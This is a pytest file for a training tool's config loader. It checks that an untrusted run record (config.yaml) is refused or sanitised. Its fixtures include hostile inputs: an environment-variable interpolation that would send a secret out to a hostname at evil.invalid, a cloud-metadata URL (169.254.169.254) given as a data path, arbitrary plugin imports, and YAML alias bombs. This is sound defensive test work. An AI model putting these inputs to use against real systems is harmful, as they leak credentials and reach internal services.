"""A run's config.yaml, which may be a stranger's: plain values, no address to join, nothing written where it says."""

from __future__ import annotations

from pathlib import Path

import pytest

from dhp.__main__ import main
from dhp.config.command_line import compose_config, to_yaml
from dhp.config.data import DataConfig, DatasetEntry
from dhp.config.run_dir import compose_recorded, require_named_addresses
from dhp.core.errors import ConfigError

SECRET = "hf_value_of_it"


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("cluster: {address: 'ray://${oc.env:PUBLIC}.evil.invalid:10001'}", "plain record"),
        ('text: {model_name: "evil/\\x24{oc.env:PUBLIC}"}', "plain record"),
        ("data: {data_registry: {'${oc.env:PUBLIC}': {annotation_path: a}}}", "plain record"),
        ("name: ['${now:%Y}']", "plain record"),
        ("defaults: [tiny]", "it has defaults"),
        ("hydra: {mode: RUN}", "it has hydra"),
        ("[a, b]", "no keys"),
        ("", "no keys"),
        ("name: [", "cannot be read"),
        ("name: &a [*a]", "one value stands in several places"),
        ("a: &a [x]\nb: &b [*a, *a]\nname: [*b, *b]", "one value stands in several places"),
    ],
)
def test_what_a_run_does_not_write_is_refused(
    text: str, told: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PUBLIC", SECRET)
    file = tmp_path / "config.yaml"
    file.write_text(text)
    with pytest.raises(ConfigError, match=told) as caught:
        compose_recorded(file, ["cluster.address=local"])
    assert SECRET not in str(caught.value)


@pytest.mark.parametrize("address", ["ray://evil.invalid:10001", "127.0.0.1:19999"])
def test_a_cluster_is_joined_only_if_the_command_line_names_it(address: str, tmp_path: Path) -> None:
    file = tmp_path / "config.yaml"
    file.write_text(f"cluster: {{address: '{address}'}}\n")
    with pytest.raises(ConfigError, match=f"add cluster.address={address}"):
        compose_recorded(file)
    assert compose_recorded(file, ["cluster.address=local"]).cluster.address == "local"
    assert compose_recorded(file, [f"cluster.address={address}"]).cluster.address == address
    file.write_text("cluster: {address: auto}\n")
    assert compose_recorded(file).cluster.address == "auto"


def test_modules_are_imported_only_if_the_command_line_names_them(tmp_path: Path) -> None:
    """A record that names one could run any code that lies in a folder of this machine's PYTHONPATH."""
    file = tmp_path / "config.yaml"
    file.write_text("plugins: [antigravity, this]\n")
    with pytest.raises(ConfigError, match=r"modules whose code would run here.*add plugins=\[antigravity,this\]"):
        compose_recorded(file)
    assert compose_recorded(file, ["plugins=[my_family]"]).plugins == ["my_family"]
    assert compose_recorded(file, ["plugins=[]"]).plugins == []
    file.write_text("plugins: []\n")
    assert compose_recorded(file).plugins == []


def test_a_record_says_not_where_is_written_and_what_is_fetched(tmp_path: Path) -> None:
    folder = tmp_path / "theirs"
    writing = [f"training.checkpoint_dir={folder}", f"data.cache_dir={folder}", f"memory.cache_dir={folder}"]
    writing += [f"data.cache_features={folder}", "data.cache_features_gib=1", "data.allow_http=true"]
    theirs = compose_config("tiny", overrides=["seed=5", *writing])
    file = tmp_path / "config.yaml"
    file.write_text(to_yaml(theirs))
    found = compose_recorded(file)
    assert found.seed == 5 and found.text == theirs.text and str(folder) not in to_yaml(found)
    assert not found.data.allow_http and found.data.cache_features_gib is None
    mine = compose_recorded(file, writing)
    assert (mine.data, mine.memory, mine.training) == (theirs.data, theirs.memory, theirs.training)


@pytest.mark.parametrize("command", [["evaluate", "loss", "{run}"], ["generate", "checkpoint={run}", "prompt=a"]])
def test_both_commands_read_a_run_so(
    command: list[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    checkpoint = tmp_path / "run" / "checkpoints" / "step_1"
    checkpoint.mkdir(parents=True)
    monkeypatch.setattr("dhp.cli.common.find_checkpoint", lambda _: checkpoint)
    (tmp_path / "run" / "config.yaml").write_text("cluster: {address: '${oc.env:HOME}:1'}\n")
    assert main([part.format(run=checkpoint) for part in command]) == 1
    assert "is not the plain record that a run writes" in capsys.readouterr().err


@pytest.mark.parametrize("field", ["annotation_path", "data_path"])
def test_an_address_in_a_record_is_asked_only_if_the_command_line_names_it(field: str) -> None:
    entry = {"annotation_path": "/a.json", "data_path": "/a"} | {field: "http://169.254.169.254/a.json"}
    key = f"data.data_registry.theirs.{field}"
    data = DataConfig(data_registry={"theirs": DatasetEntry(**entry), "own": DatasetEntry("/b.json")})
    with pytest.raises(ConfigError, match=f"If you know it, add {key}=http://169.254.169.254/a.json"):
        require_named_addresses(data, ["own", "theirs%50"], ["seed=1"])
    require_named_addresses(data, ["own", "theirs"], [f"{key}=http://169.254.169.254/a.json"])
    require_named_addresses(data, ["own"], [])  # which is not read
